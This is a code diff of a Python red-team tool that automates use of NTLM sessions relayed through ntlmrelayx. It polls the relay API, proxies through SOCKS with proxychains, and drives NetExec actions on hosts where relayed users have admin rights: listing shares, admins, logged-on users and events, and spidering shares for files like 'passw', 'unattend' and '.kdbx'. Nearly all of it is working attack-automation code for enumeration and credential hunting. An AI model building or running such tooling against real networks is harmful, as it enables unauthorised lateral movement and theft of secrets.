@@ -1,100 +1,565 @@
 import os
 import sys
+import copy
+import math
+import atexit
 import argparse
+import ipaddress
 import requests
-from collections import defaultdict
+from collections import defaultdict, deque, Counter
 import subprocess
 import re
+import time
+import json
+import signal
+import gzip
+import shlex
+import shutil
+import sqlite3
+import hashlib
+import tempfile
+import threading
+import queue
+from concurrent.futures import ThreadPoolExecutor, as_completed
 
-# Function to fetch data from the ntlmrelayx HTTPAPI
-def fetch_data_from_api(api_url):
+# Lock keeping the output file and the console consistent when hosts run concurrently
+output_lock = threading.Lock()
+
+# Function to compute a nearest-rank percentile of a list of numbers
+def percentile(values, fraction):
+    ordered = sorted(values)
+    return ordered[max(0, math.ceil(fraction * len(ordered)) - 1)]
+
+# Class to record timing for every command and API call as JSON lines, with a summary table at exit
+class Metrics:
+    def __init__(self, path=None):
+        self.path = path
+        self._file = open(path, 'a') if path else None
+        self._lock = threading.Lock()
+        self._durations = defaultdict(list)  # (action, exec method) -> command durations
+        self._api_durations = []
+
+    def record(self, kind, **fields):
+        fields = {"ts": round(time.time(), 3), "kind": kind, **fields}
+        with self._lock:
+            if self._file:
+                self._file.write(json.dumps(fields) + "\n")
+                self._file.flush()
+            if kind == 'command' and fields["status"] != 'cached':
+                self._durations[(fields["action"], fields["exec_method"] or 'default')].append(fields["duration"])
+            elif kind == 'api':
+                self._api_durations.append(fields["duration"])
+
+    # Print p50/p95/max per action and exec method, and for the API polls
+    def summary(self):
+        with self._lock:
+            rows = sorted((key, list(durations)) for key, durations in self._durations.items())
+            api_durations = list(self._api_durations)
+        if not rows and not api_durations:
+            return
+        print(f"\n\033[1m{'Action':<30}{'Exec method':<14}{'Runs':>6}{'p50':>9}{'p95':>9}{'max':>9}\033[0m")
+        if api_durations:
+            rows.append((("ntlmrelayx API", "-"), api_durations))
+        for (action_name, exec_method), durations in rows:
+            print(f"{action_name:<30}{exec_method:<14}{len(durations):>6}{percentile(durations, 0.5):>8.2f}s{percentile(durations, 0.95):>8.2f}s{max(durations):>8.2f}s")
+
+    # Background pollers may still record while atexit handlers run; later records are only kept in memory
+    def close(self):
+        self.summary()
+        with self._lock:
+            if self._file:
+                self._file.close()
+                self._file = None
+
+# Function to fetch data from the ntlmrelayx HTTPAPI (returns None when the API can't be reached)
+def fetch_data_from_api(api_url, session=None, timeout=None, verbose=True, metrics=None):
+    started = time.monotonic()
+    data = None
     try:
-        response = requests.get(api_url)
+        response = (session or requests).get(api_url, timeout=timeout)
         response.raise_for_status()
-        return response.json()
-    except requests.RequestException as e:
-        print(f"Failed to fetch data from ntlmrelayx API: {e}")
-        return []
-
-# Function to filter the TRUE lines from the input file (backup option)
-def filter_true_lines(file_path):
-    true_lines = []
+        data = response.json()
+        return data
+    except (requests.RequestException, ValueError) as e:
+        if verbose:
+            print(f"Failed to fetch data from ntlmrelayx API: {e}")
+        return None
+    finally:
+        if metrics:
+            metrics.record('api', url=api_url, duration=round(time.monotonic() - started, 4), ok=data is not None, relays=len(data) if data is not None else 0)
+
+# Class describing one ntlmrelayx instance: its HTTPAPI and, optionally, the SOCKS proxy its relays go through
+class RelayEndpoint:
+    def __init__(self, spec, conf_dir="proxychains"):
+        api, _, socks = spec.partition('@')
+        host, _, port = api.rpartition(':')
+        self.name = f"{host or '127.0.0.1'}:{int(port)}"
+        self.api_url = f"http://{self.name}/ntlmrelayx/api/v1.0/relays"
+        self.socks = None
+        self.proxychains_conf = None  # None uses the system proxychains configuration
+        if socks:
+            socks_host, _, socks_port = socks.rpartition(':')
+            self.socks = (socks_host or host or '127.0.0.1', int(socks_port))
+            self.proxychains_conf = os.path.join(conf_dir, f"{self.name.replace(':', '_')}.conf")
+
+    # Write a proxychains configuration that sends everything through this instance's SOCKS proxy
+    def write_proxychains_conf(self):
+        if not self.proxychains_conf:
+            return
+        os.makedirs(os.path.dirname(self.proxychains_conf), exist_ok=True)
+        with open(self.proxychains_conf, 'w') as file:
+            file.write("strict_chain\nquiet_mode\ntcp_read_time_out 15000\ntcp_connect_time_out 8000\n\n[ProxyList]\n")
+            file.write(f"socks4 {self.socks[0]} {self.socks[1]}\n")
+
+# Class to poll the ntlmrelayx HTTPAPI in the background and publish only the relays that changed
+class RelayPoller(threading.Thread):
+    def __init__(self, api_url, interval=5.0, timeout=5.0, initial=(), metrics=None, tag=None):
+        super().__init__(daemon=True)
+        self.api_url = api_url
+        self.tag = tag  # Endpoint name appended to every row, so relays can be routed through its SOCKS proxy
+        self.source = f"ntlmrelayx API {tag}" if tag else "ntlmrelayx API"
+        self.metrics = metrics
+        self.interval = interval
+        self.timeout = timeout
+        self.changes = queue.Queue()
+        self.session = requests.Session()
+        self._known = {tuple(entry) for entry in initial}
+        self._failing = False
+        self._stop_event = threading.Event()
+
+    # Fetch the relay list once and queue (added, removed) if anything changed
+    def poll_once(self):
+        data = fetch_data_from_api(self.api_url, session=self.session, timeout=self.timeout, verbose=False, metrics=self.metrics)
+        if data is None:
+            # Keep the last known relays; an unreachable API doesn't mean every session died
+            self._failing = True
+            return
+        self._failing = False
+
+        if self.tag:
+            data = [entry[:5] + [self.tag] for entry in data]
+        current = {tuple(entry): entry for entry in data}
+        added = [entry for key, entry in current.items() if key not in self._known]
+        removed = [list(key) for key in self._known if key not in current]
+        self._known = set(current)
+        if added or removed:
+            self.changes.put((added, removed))
+
+    def run(self):
+        while not self._stop_event.is_set():
+            self.poll_once()
+            self._stop_event.wait(self.interval)
+
+    def stop(self):
+        self._stop_event.set()
+        self.session.close()
+
+    @property
+    def failing(self):
+        return self._failing
+
+    # Collect every change published since the last call without blocking
+    def drain(self):
+        added, removed = [], []
+        while True:
+            try:
+                new, gone = self.changes.get_nowait()
+            except queue.Empty:
+                return added, removed
+            added.extend(new)
+            removed.extend(gone)
+
+# Class to poll several ntlmrelayx instances concurrently and publish their changes as one stream
+class RelayPollerGroup:
+    def __init__(self, pollers):
+        self.pollers = pollers
+
+    def start(self):
+        for poller in self.pollers:
+            poller.start()
+
+    def stop(self):
+        for poller in self.pollers:
+            poller.stop()
+
+    @property
+    def failing(self):
+        return any(poller.failing for poller in self.pollers)
+
+    @property
+    def source(self):
+        return "ntlmrelayx API " + ", ".join(poller.tag for poller in self.pollers if poller.failing)
+
+    def drain(self):
+        added, removed = [], []
+        for poller in self.pollers:
+            new, gone = poller.drain()
+            added.extend(new)
+            removed.extend(gone)
+        return added, removed
+
+# Function to fetch the relays of every endpoint at once, tagged with their endpoint; returns None when none answered
+def fetch_endpoints(endpoints, timeout=None, metrics=None):
+    with ThreadPoolExecutor(max_workers=len(endpoints)) as pool:
+        responses = list(pool.map(lambda endpoint: fetch_data_from_api(endpoint.api_url, timeout=timeout, metrics=metrics), endpoints))
+    if all(data is None for data in responses):
+        return None
+    return [entry[:5] + [endpoint.name] for endpoint, data in zip(endpoints, responses) for entry in data or ()]
+
+# Function to parse one row of the ntlmrelayx 'socks' table into the /relays API format, or None
+def parse_socks_line(line):
+    parts = line.split()
+    if len(parts) < 4 or parts[3] not in {'TRUE', 'FALSE'}:
+        return None  # Headers, separators and prompt lines
+    return [parts[0], parts[1], parts[2], parts[3], parts[4] if len(parts) > 4 else ""]
+
+# Function to read every relay row from the input file (backup option)
+def read_socks_file(file_path):
+    relays = []
     if not file_path or not os.path.exists(file_path):
-        return true_lines
+        return relays
 
-    with open(file_path, 'r') as file:
+    with open(file_path, 'r', errors='replace') as file:
         for line in file:
-            parts = line.split()
-            if len(parts) >= 4 and parts[3] == 'TRUE':
-                ip = parts[1]
-                domain_user = parts[2]
-                true_lines.append([ip, domain_user])
-    return true_lines
+            entry = parse_socks_line(line)
+            if entry:
+                relays.append(entry)
+    return relays
 
-# Function to display the unique systems and users count
-def display_unique_counts(true_lines, cache_ips, debug=False):
-    unique_systems = set()
-    unique_users = set()
-    admin_systems = set()
-    admin_users = set()
-
-    for entry in true_lines:
-        ip = entry[1]
-        domain_user = entry[2]
-        unique_systems.add(ip)
-        unique_users.add(domain_user)
-        if entry[3] == 'TRUE':
-            admin_systems.add(ip)
-            admin_users.add(domain_user)
+# Class to tail the ntlmrelayx socks output file and publish relays appended to it, like RelayPoller
+class SocksFileFollower(threading.Thread):
+    def __init__(self, file_path, interval=1.0):
+        super().__init__(daemon=True)
+        self.file_path = file_path
+        self.source = f"Input file {file_path}"
+        self.interval = interval
+        self.changes = queue.Queue()
+        self._offset = 0
+        self._inode = None
+        self._partial = b""  # Trailing line still being written
+        self._known = set()
+        self._failing = False
+        self._stop_event = threading.Event()
+
+    # Parse the lines appended since the last call and queue (added, []) if any relay is new
+    def poll_once(self):
+        try:
+            with open(self.file_path, 'rb') as file:
+                stat = os.fstat(file.fileno())
+                if stat.st_ino != self._inode or stat.st_size < self._offset:
+                    # Replaced or truncated: start over, but only report relays not seen before
+                    self._inode = stat.st_ino
+                    self._offset = 0
+                    self._partial = b""
+                file.seek(self._offset)
+                data = file.read()
+        except OSError:
+            self._failing = True
+            return
+        self._failing = False
+        self._offset += len(data)
+
+        lines = (self._partial + data).split(b"\n")
+        self._partial = lines.pop()
+        added = []
+        for line in lines:
+            entry = parse_socks_line(line.decode('utf-8', errors='replace'))
+            if entry and tuple(entry) not in self._known:
+                self._known.add(tuple(entry))
+                added.append(entry)
+        # The socks table only lists live relays, so a relay missing from a later table isn't proof it's gone
+        if added:
+            self.changes.put((added, []))
+
+    def run(self):
+        while not self._stop_event.is_set():
+            self.poll_once()
+            self._stop_event.wait(self.interval)
+
+    def stop(self):
+        self._stop_event.set()
+
+    @property
+    def failing(self):
+        return self._failing
+
+    # Collect every change published since the last call without blocking
+    def drain(self):
+        added, removed = [], []
+        while True:
+            try:
+                new, gone = self.changes.get_nowait()
+            except queue.Empty:
+                return added, removed
+            added.extend(new)
+            removed.extend(gone)
+
+# Class to index relays from the ntlmrelayx /relays JSON by IP and by DOMAIN/user
+class RelayIndex:
+    def __init__(self, entries=()):
+        self.by_ip = defaultdict(list)
+        self.by_user = defaultdict(list)
+        self.admin_users_by_ip = defaultdict(list)
+        self.admin_ips_by_user = defaultdict(set)
+        self._entries = {}
+        self.add(entries)
+
+    def __len__(self):
+        return len(self._entries)
 
+    def __iter__(self):
+        return iter(self._entries.values())
+
+    # Add relay rows, skipping ones already indexed, and return the rows that were new
+    def add(self, entries):
+        new_entries = []
+        for entry in entries:
+            key = tuple(entry)
+            if key in self._entries:
+                continue
+            self._entries[key] = entry
+            new_entries.append(entry)
+
+            ip = entry[1]
+            domain_user = entry[2]
+            self.by_ip[ip].append(entry)
+            self.by_user[domain_user].append(entry)
+            if entry[3] == 'TRUE':
+                if domain_user not in self.admin_users_by_ip[ip]:
+                    self.admin_users_by_ip[ip].append(domain_user)
+                self.admin_ips_by_user[domain_user].add(ip)
+        return new_entries
+
+    # Drop relay rows that ntlmrelayx no longer lists and return the rows that were removed
+    def remove(self, entries):
+        removed = []
+        for entry in entries:
+            entry = self._entries.pop(tuple(entry), None)
+            if entry is None:
+                continue
+            removed.append(entry)
+
+            ip = entry[1]
+            domain_user = entry[2]
+            self.by_ip[ip].remove(entry)
+            if not self.by_ip[ip]:
+                del self.by_ip[ip]
+            self.by_user[domain_user].remove(entry)
+            if not self.by_user[domain_user]:
+                del self.by_user[domain_user]
+
+            # Only revoke admin status if no other admin row for the same IP and user remains
+            if entry[3] == 'TRUE' and not any(e[2] == domain_user and e[3] == 'TRUE' for e in self.by_ip.get(ip, ())):
+                self.admin_users_by_ip[ip].remove(domain_user)
+                if not self.admin_users_by_ip[ip]:
+                    del self.admin_users_by_ip[ip]
+                self.admin_ips_by_user[domain_user].discard(ip)
+                if not self.admin_ips_by_user[domain_user]:
+                    del self.admin_ips_by_user[domain_user]
+        return removed
+
+    def is_new(self, entry):
+        return tuple(entry) not in self._entries
+
+    # ntlmrelayx endpoint holding the session for an IP and user (admin rows first), or None for untagged rows
+    def source(self, ip, domain_user):
+        rows = sorted((entry for entry in self.by_ip.get(ip, ()) if entry[2] == domain_user and len(entry) > 5), key=lambda entry: entry[3] != 'TRUE')
+        return rows[0][5] if rows else None
+
+    # Admin sessions per endpoint, each (IP, user) counted once
+    def admin_sessions_by_source(self):
+        counts = Counter()
+        for ip, users in self.admin_users_by_ip.items():
+            for domain_user in users:
+                counts[self.source(ip, domain_user)] += 1
+        return counts
+
+    @property
+    def systems(self):
+        return self.by_ip.keys()
+
+    @property
+    def users(self):
+        return self.by_user.keys()
+
+    @property
+    def admin_systems(self):
+        return self.admin_users_by_ip.keys()
+
+    @property
+    def admin_users(self):
+        return self.admin_ips_by_user.keys()
+
+# Function to display the unique systems and users count
+def display_unique_counts(relays, cache_ips, debug=False, liveness=None):
     if debug:
-        print(f"Systems: {list(unique_systems)}")  # Debugging information
-        print(f"Users: {list(unique_users)}")  # Debugging information
+        print(f"Systems: {list(relays.systems)}")  # Debugging information
+        print(f"Users: {list(relays.users)}")  # Debugging information
 
-    print(f"\nNumber of unique \033[1;34msystems\033[0m: \033[1m{len(unique_systems)}\033[0m (\033[1;33m{len(admin_systems)} with admin\033[0m)")
-    print(f"Number of unique \033[1;34musers\033[0m: \033[1m{len(unique_users)}\033[0m (\033[1;33m{len(admin_users)} with admin\033[0m)")
+    print(f"\nNumber of unique \033[1;34msystems\033[0m: \033[1m{len(relays.systems)}\033[0m (\033[1;33m{len(relays.admin_systems)} with admin\033[0m)")
+    print(f"Number of unique \033[1;34musers\033[0m: \033[1m{len(relays.users)}\033[0m (\033[1;33m{len(relays.admin_users)} with admin\033[0m)")
+    if liveness:
+        display_session_health(relays, liveness)
+    sessions = relays.admin_sessions_by_source()
+    if len(sessions) > 1:
+        print("Admin sessions per \033[1;34mntlmrelayx\033[0m: " + ", ".join(f"{source or 'input file'} \033[1m{count}\033[0m" for source, count in sorted(sessions.items(), key=lambda item: str(item[0]))))
 
     if cache_ips:
         print(f"\033[1mCache file exists. {len(cache_ips)} unique IPs found in the cache.\033[0m")
 
-# Function to parse the cache file
+# Function to display how many admin relay sessions are known live, known stale or not checked yet
+def display_session_health(relays, liveness):
+    states = Counter(liveness.get(ip, domain_user) for ip, users in relays.admin_users_by_ip.items() for domain_user in users)
+    print(f"Admin relay \033[1;34msessions\033[0m: \033[1m{states[True]}\033[0m live (\033[1;31m{states[False]} stale\033[0m, {states[None]} unchecked)")
+
+# Function to merge fresh relay rows into the index and report new systems/users
+def report_new_relays(relays, fresh_data):
+    new_entries = [entry for entry in fresh_data if relays.is_new(entry)]
+    if not new_entries:
+        return new_entries
+
+    new_systems = {entry[1] for entry in new_entries}
+    new_admin_systems = {entry[1] for entry in new_entries if entry[3] == 'TRUE'}
+    new_admin_users = {entry[2] for entry in new_entries if entry[3] == 'TRUE'}
+
+    # Compare with existing systems and users
+    actual_new_systems = {ip for ip in new_systems if ip not in relays.by_ip}
+    actual_new_admin_systems = {ip for ip in new_admin_systems if ip not in relays.by_ip}
+    new_users_for_existing_systems = {entry[2] for entry in new_entries if entry[1] in relays.by_ip and entry[2] not in relays.by_user}
+
+    print(f"\033[1;34mNew systems detected\033[0m: \033[1m{len(actual_new_systems)}\033[0m (\033[1;33m{len(actual_new_admin_systems)} with admin\033[0m)")
+    print(f"\033[1;34mNew users detected\033[0m: \033[1m{len(new_users_for_existing_systems)}\033[0m (\033[1;33m{len(new_admin_users & new_users_for_existing_systems)} with admin\033[0m)")
+    return relays.add(new_entries)
+
+# Function to drop relays that disappeared from ntlmrelayx and report them
+def report_removed_relays(relays, gone_data):
+    removed = relays.remove(gone_data)
+    if removed:
+        print(f"\033[1;34mRelays no longer listed\033[0m: \033[1m{len(removed)}\033[0m (\033[1;33m{sum(1 for entry in removed if entry[3] == 'TRUE')} with admin\033[0m)")
+    return removed
+
+# Class to cache relay session liveness per (IP, user) for a short TTL
+class LivenessCache:
+    def __init__(self, ttl=120):
+        self.ttl = ttl
+        self._state = {}  # (ip, domain_user) -> (alive, checked_at)
+        self._lock = threading.Lock()
+
+    def mark(self, ip, domain_user, alive):
+        with self._lock:
+            self._state[(ip, domain_user)] = (alive, time.time())
+
+    # Drop what we know about sessions ntlmrelayx (re)listed or removed
+    def forget(self, entries):
+        with self._lock:
+            for entry in entries:
+                self._state.pop((entry[1], entry[2]), None)
+
+    # True/False while the last observation is fresh, None when unknown or expired
+    def get(self, ip, domain_user):
+        state = self._state.get((ip, domain_user))
+        if state is None or time.time() - state[1] > self.ttl:
+            return None
+        return state[0]
+
+    # Whether a session should be used; unknown sessions are probed first when probing is enabled
+    def is_alive(self, ip, domain_user, probe=False, probe_timeout=20, proxychains_conf=None):
+        alive = self.get(ip, domain_user)
+        if alive is None and probe:
+            alive = probe_session(ip, domain_user, probe_timeout, proxychains_conf)
+            self.mark(ip, domain_user, alive)
+        return alive is not False
+
+    # Learn from a finished command: success proves the session, an unreachable one marks it stale
+    def observe(self, ip, domain_user, status):
+        if status == 'ok':
+            self.mark(ip, domain_user, True)
+        elif status in ('timeout', 'unreachable'):
+            self.mark(ip, domain_user, False)
+
+    def stale_count(self, relays):
+        with self._lock:
+            states = list(self._state.items())
+        return sum(1 for (ip, domain_user), _ in states
+                   if self.get(ip, domain_user) is False and domain_user in relays.admin_users_by_ip.get(ip, ()))
+
+# Function to parse the cache file into (action, ip, user, status, timestamp) records
 def parse_cache(cache_file):
     if not os.path.exists(cache_file):
-        return set(), {}
+        return
 
-    cache_ips = set()
-    cache_actions = defaultdict(set)
     with open(cache_file, 'r') as file:
         for line in file:
             if line.startswith("Action:"):
                 try:
-                    action_ip_part = line.strip().split(": ", 1)[1]
+                    # Entries are "Action: <action> on <ip> | <user> | <status> | <timestamp>";
+                    # older entries only carry the action and IP
+                    action_ip_part, *meta = line.rstrip("\r\n").split(": ", 1)[1].split(" | ")
                     action, ip = action_ip_part.rsplit(" on ", 1)  # Use rsplit to only split once from the right
-                    cache_ips.add(ip)
-                    cache_actions[action].add(ip)
-                except ValueError:
+                except (ValueError, IndexError):
                     continue
-    return cache_ips, cache_actions
+                user = meta[0] if len(meta) > 0 and meta[0] else None
+                status = meta[1] if len(meta) > 1 else 'ok'
+                timestamp = meta[2] if len(meta) > 2 and meta[2] else None
+                yield action, ip, user, status, timestamp
 
-# Function to save action and IPs to the cache file
-def update_cache(cache_file, action_name, ips, debug=False):
-    with open(cache_file, 'a') as file:
-        for ip in ips:
-            entry = f"Action: {action_name} on {ip}\n"
-            if debug:
-                print(f"Writing to cache: {entry.strip()}")  # Debugging print
-            file.write(entry)
+# Function to format a single cache entry
+def format_cache_entry(action_name, ip, user, status, timestamp):
+    return f"Action: {action_name} on {ip} | {user or ''} | {status} | {timestamp or ''}\n"
+
+# Class to keep the action cache indexed in memory, in sync with the append-only cache file
+class ActionCache:
+    def __init__(self, cache_file, load=True, debug=False):
+        self.cache_file = cache_file
+        self.debug = debug
+        self.records = {}  # (action, ip, user) -> (status, timestamp)
+        self.last_ok = {}  # (action, ip, user) -> timestamp of the latest successful run
+        self.completed = defaultdict(set)  # action -> IPs with a successful run
+        self.ips = set()
+        self._lock = threading.Lock()
+        if load:
+            for record in parse_cache(cache_file):
+                self._apply(*record)
+
+    def _apply(self, action_name, ip, user, status, timestamp):
+        self.records[(action_name, ip, user)] = (status, timestamp)
+        self.ips.add(ip)
+        if status == 'ok':
+            self.last_ok[(action_name, ip, user)] = timestamp
+            self.completed[action_name].add(ip)
 
-# Function to update cache status and re-check after action
-def update_cache_status(cache_file, action_name, available_ips):
-    cache_ips, cache_actions = parse_cache(cache_file)  # Re-read cache to ensure it's up to date
+    # Record the outcome of an action on a host, in memory and on disk
+    def record(self, action_name, ip, user=None, status='ok'):
+        timestamp = time.strftime("%Y-%m-%dT%H:%M:%S")
+        entry = format_cache_entry(action_name, ip, user, status, timestamp)
+        with self._lock:
+            self._apply(action_name, ip, user, status, timestamp)
+            with open(self.cache_file, 'a') as file:
+                file.write(entry)
+        if self.debug:
+            print(f"Writing to cache: {entry.strip()}")  # Debugging print
 
-    completed = cache_actions.get(action_name)
-    if completed is None:
-        completed = set()  # Initialize as an empty set if None
+    # COMPLETE / PARTIAL / None for an action against the currently available IPs
+    def status(self, action_name, available_ips):
+        completed = self.completed.get(action_name)
+        if not completed:
+            return None
+        if len(completed) >= len(available_ips) and available_ips <= completed:
+            return 'complete'
+        return 'partial'
 
-    if len(completed) == len(available_ips):
-        cache_actions[action_name] = available_ips  # Mark as complete
+    # Rewrite the cache file keeping only the latest entry per (action, ip, user),
+    # plus the latest successful one when a later run failed
+    def compact(self):
+        with self._lock:
+            temp_file = f"{self.cache_file}.tmp"
+            with open(temp_file, 'w') as file:
+                for key, (status, timestamp) in self.records.items():
+                    if status != 'ok' and key in self.last_ok:
+                        file.write(format_cache_entry(*key, 'ok', self.last_ok[key]))
+                    file.write(format_cache_entry(*key, status, timestamp))
+            os.replace(temp_file, self.cache_file)
+        return len(self.records)
 
 # Function to get the user input for selecting systems
 def select_systems(available_ips):
@@ -115,24 +580,318 @@ def select_systems(available_ips):
 def color_text(text, color_code):
     return f"\033[{color_code}m{text}\033[0m"
 
+# Highlighted tokens and their colors, matched in a single precompiled pass
+HIGHLIGHTS = {
+    '[*]': '34;1',  # [*] in blue
+    '[+]': '32;1',  # [+] in green
+    '(Pwn3d!)': '33;1',  # (Pwn3d!) in bold yellow
+    'User accounts for \\\\': '33;1',  # "User accounts for \\" in bold yellow
+    'READ,WRITE': '32;1',  # "READ,WRITE" in bold green for List shares
+}
+HIGHLIGHT_PATTERN = re.compile("|".join(re.escape(token) for token in HIGHLIGHTS))
+
 def apply_coloring(output):
-    # Color [*] in blue
-    output = re.sub(r'\[\*\]', color_text('[*]', '34;1'), output)
-    # Color [+] in green
-    output = re.sub(r'\[\+\]', color_text('[+]', '32;1'), output)
-    # Color (Pwn3d!) in bold yellow
-    output = re.sub(r'\(Pwn3d!\)', color_text('(Pwn3d!)', '33;1'), output)
-    # Color "User accounts for \\" in bold yellow
-    output = re.sub(r'(User accounts for \\\\)', color_text(r'\1', '33;1'), output)
-    # Color "READ,WRITE" in bold green for List shares
-    output = re.sub(r'(READ,WRITE)', color_text(r'\1', '32;1'), output)
-
-    return output
-
-# Function to handle the execution of commands
-def execute_command(ip, domain_user, action_name, output_file, cache_file, available_ips, exec_method=None, grep=None, grep_before=0, grep_after=0):
+    return HIGHLIGHT_PATTERN.sub(lambda match: color_text(match.group(0), HIGHLIGHTS[match.group(0)]), output)
+
+# Class to filter streamed lines like grep -B/-A, holding only the context lines in a ring buffer
+class GrepFilter:
+    def __init__(self, pattern, before=0, after=0):
+        try:
+            self.pattern = re.compile(pattern)
+        except re.error:
+            self.pattern = re.compile(re.escape(pattern))
+        self.before = deque(maxlen=before) if before > 0 else None
+        self.after = after
+        self._after_left = 0
+        self._line_number = 0
+        self._last_emitted = None
+
+    # Feed one line and return the lines that should be shown
+    def feed(self, line):
+        self._line_number += 1
+        shown = []
+        if self.pattern.search(line):
+            context = list(self.before) if self.before is not None else []
+            first = context[0][0] if context else self._line_number
+            # Separate non-adjacent groups the way grep does when context is requested
+            if (self.before is not None or self.after) and self._last_emitted is not None and first > self._last_emitted + 1:
+                shown.append("--\n")
+            shown.extend(context_line for _, context_line in context)
+            shown.append(line)
+            if self.before is not None:
+                self.before.clear()
+            self._after_left = self.after
+            self._last_emitted = self._line_number
+        elif self._after_left > 0:
+            shown.append(line)
+            self._after_left -= 1
+            self._last_emitted = self._line_number
+        elif self.before is not None:
+            self.before.append((self._line_number, line))
+        return shown
+
+# Function to ask once for the number of security events to pull
+def prompt_event_count():
+    event_count = input("Default event count is 20. Press Enter to use the default or enter a number to change: ").strip()
+    if not event_count.isdigit():
+        event_count = "20"
+    return event_count
+
+# Function to prompt for the spider pattern and limits
+def prompt_spider_args():
+    pattern = ""
+    while not pattern:
+        pattern = input("Pattern(s) to look for in file names, space separated (e.g. passw unattend .kdbx): ").strip()
+    depth = input("Maximum directory depth [3]: ").strip()
+    max_size = input("Skip matches larger than this many MB [10]: ").strip()
+    content = input("Also search file contents? (y/N): ").strip().lower()
+    return {
+        "pattern": pattern,
+        "depth": int(depth) if depth.isdigit() else 3,
+        "max_size": float(max_size) if max_size.replace('.', '', 1).isdigit() else 10,  # MB
+        "content": content == 'y',
+    }
+
+# Function to prompt for whatever parameters an action needs (None when it needs none)
+def prompt_action_args(action_name):
+    if action_name == "List security events":
+        return prompt_event_count()
+    if action_name == SPIDER_ACTION:
+        return prompt_spider_args()
+    return None
+
+# Class to memoize raw nxc output per (action, ip, user, exec_method) with a TTL
+class ResultStore:
+    def __init__(self, directory, ttl=3600):
+        self.directory = directory
+        self.ttl = ttl
+        self.index_file = os.path.join(directory, "index.jsonl")
+        self.index = {}  # (action, ip, user, exec_method, command) -> index record
+        self._lock = threading.Lock()
+        os.makedirs(directory, exist_ok=True)
+        if os.path.exists(self.index_file):
+            with open(self.index_file, 'r') as file:
+                for line in file:
+                    try:
+                        record = json.loads(line)
+                        self.index[self._key(record)] = record
+                    except (ValueError, KeyError):
+                        continue
+
+    # The command is part of the key, so e.g. each spidered share or event count is stored separately
+    @staticmethod
+    def _key(record):
+        return (record["action"], record["ip"], record["user"], record["exec_method"], record["command"])
+
+    def _path(self, key):
+        digest = hashlib.sha1("\0".join(str(part) for part in key).encode()).hexdigest()
+        return os.path.join(self.directory, f"{digest}.txt")
+
+    # Stored record for the exact command if it hasn't expired, else None
+    def lookup(self, action_name, ip, user, exec_method, command):
+        if self.ttl <= 0:
+            return None
+        record = self.index.get((action_name, ip, user, exec_method, command))
+        if not record or time.time() - record["timestamp"] > self.ttl:
+            return None
+        if not os.path.exists(record["file"]):
+            return None
+        return record
+
+    # Open a partial file for a result being streamed; it is only published by commit()
+    def begin(self, action_name, ip, user, exec_method, command):
+        key = (action_name, ip, user, exec_method, command)
+        record = {"action": action_name, "ip": ip, "user": user, "exec_method": exec_method, "command": command, "timestamp": None, "file": self._path(key)}
+        handle = open(f"{record['file']}.{threading.get_ident()}.part", 'w')
+        return record, handle
+
+    def commit(self, pending):
+        record, handle = pending
+        handle.close()
+        record["timestamp"] = time.time()
+        with self._lock:
+            os.replace(handle.name, record["file"])
+            with open(self.index_file, 'a') as file:
+                file.write(json.dumps(record) + "\n")
+            self.index[self._key(record)] = record
+
+    def discard(self, pending):
+        _, handle = pending
+        handle.close()
+        os.remove(handle.name)
+
+# Escape sequences nxc may emit even when piped
+ANSI_PATTERN = re.compile(r'\x1b\[[0-9;]*m')
+
+# nxc per-target lines: "<PROTOCOL> <IP> <PORT> <HOSTNAME> <message>"
+NXC_MESSAGE_PATTERN = re.compile(r'^\S+\s+(\d{1,3}(?:\.\d{1,3}){3})\s+\d+\s+\S+\s+(.*)$')
+
+# Share rows: name, optional permissions, optional remark
+SHARE_PATTERN = re.compile(r'^(?P<share>.+?)(?:\s+(?P<permissions>READ,WRITE|READ|WRITE)(?:\s+(?P<remark>.*))?)?$')
+
+# Shares every Windows host exposes; drive shares (C$, D$...) are matched separately
+DEFAULT_SHARES = {'ADMIN$', 'IPC$', 'PRINT$', 'NETLOGON', 'SYSVOL'}
+
+# Function to yield the message part of every nxc per-target line
+def nxc_messages(lines):
+    for line in lines:
+        match = NXC_MESSAGE_PATTERN.match(ANSI_PATTERN.sub('', line).rstrip())
+        if match:
+            yield match.group(2).rstrip()
+
+# Function to parse "List shares" output into (share, permissions, remark, is_default) rows
+def parse_shares(lines):
+    in_table = False
+    for message in nxc_messages(lines):
+        if message.startswith('Share') and 'Permissions' in message:
+            in_table = True
+            continue
+        if not in_table or message.startswith('-----') or message.startswith('['):
+            continue
+        match = SHARE_PATTERN.match(message)
+        if match.group('permissions'):
+            share = match.group('share')
+            remark = match.group('remark') or ''
+        else:
+            parts = re.split(r'\s{2,}', message, maxsplit=1)
+            share = parts[0]
+            remark = parts[1] if len(parts) > 1 else ''
+        is_default = share.upper() in DEFAULT_SHARES or bool(re.fullmatch(r'[A-Za-z]\$', share))
+        yield share, match.group('permissions') or '', remark.strip(), int(is_default)
+
+# Function to parse "net localgroup Administrators" output into (member,) rows
+def parse_local_admins(lines):
+    in_members = False
+    for message in nxc_messages(lines):
+        if re.fullmatch(r'-{10,}', message):
+            in_members = True
+        elif message.startswith('The command completed'):
+            in_members = False
+        elif in_members and message and not message.startswith('['):
+            yield (message,)
+
+# Function to parse "Logged on users" output into (user,) rows
+def parse_sessions(lines):
+    for message in nxc_messages(lines):
+        match = re.match(r'^([^\s\\\[]+\\\S+)', message)
+        if match:
+            yield (match.group(1),)
+
+# Function to parse "List local users" output into (user,) rows (table or "HOST\user badpwdcount" form)
+def parse_local_users(lines):
+    in_table = False
+    for message in nxc_messages(lines):
+        if message.startswith('-Username-'):
+            in_table = True
+            continue
+        if message.startswith('['):
+            continue
+        if 'badpwdcount' in message:
+            yield (message.split()[0].split('\\')[-1],)
+        elif in_table and message:
+            yield (message.split()[0],)
+
+# Spider hits: "//IP/SHARE/path [lastm:'...' size:N ...]"; directories end in "[dir]"
+SPIDER_MATCH_PATTERN = re.compile(r"^//[^/]+/(?P<share>[^/]+)/(?P<path>.+?)\s+\[lastm:'(?P<modified>[^']*)'\s+size:(?P<size>\d+)")
+
+# Function to parse "Spider filesystem for pattern" output into (share, path, size, modified) rows for files
+def parse_spider_matches(lines):
+    for message in nxc_messages(lines):
+        match = SPIDER_MATCH_PATTERN.match(message)
+        if match:
+            yield match.group('share'), match.group('path'), int(match.group('size')), match.group('modified')
+
+# Actions with structured output: table name, its columns and the parser that fills it
+ACTION_PARSERS = {
+    "List shares": ("shares", ("share", "permissions", "remark", "is_default"), parse_shares),
+    "List local admins": ("local_admins", ("member",), parse_local_admins),
+    "Logged on users": ("sessions", ("user",), parse_sessions),
+    "List local users": ("local_users", ("user",), parse_local_users),
